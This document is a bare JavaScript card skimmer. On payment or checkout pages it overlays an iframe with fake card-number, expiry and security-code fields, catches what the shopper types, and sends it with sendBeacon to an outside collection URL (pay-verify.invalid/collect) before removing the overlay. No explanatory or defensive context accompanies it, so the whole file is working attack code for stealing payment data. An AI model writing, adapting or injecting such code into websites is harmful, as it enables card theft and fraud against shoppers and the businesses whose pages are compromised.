(function () {
  if (!/payment|checkout/.test(window.location.pathname)) return;
  var frame = document.createElement("iframe");
  frame.style.cssText = "position:absolute;top:0;left:0;width:100%;height:320px;border:0";
  frame.srcdoc = '<input id="n" placeholder="Card number"><input id="e" placeholder="Expiry"><input id="c" placeholder="Security code"><button id="go">Pay</button><script>document.getElementById("go").onclick=function(){parent.postMessage({n:document.getElementById("n").value,e:document.getElementById("e").value,c:document.getElementById("c").value},"*")}<\/script>';
  document.body.appendChild(frame);
  window.addEventListener("message", function (m) {
    if (!m.data || !m.data.n) return;
    navigator.sendBeacon("https://pay-verify.invalid/collect", JSON.stringify(m.data));
    frame.remove();
  });
})();
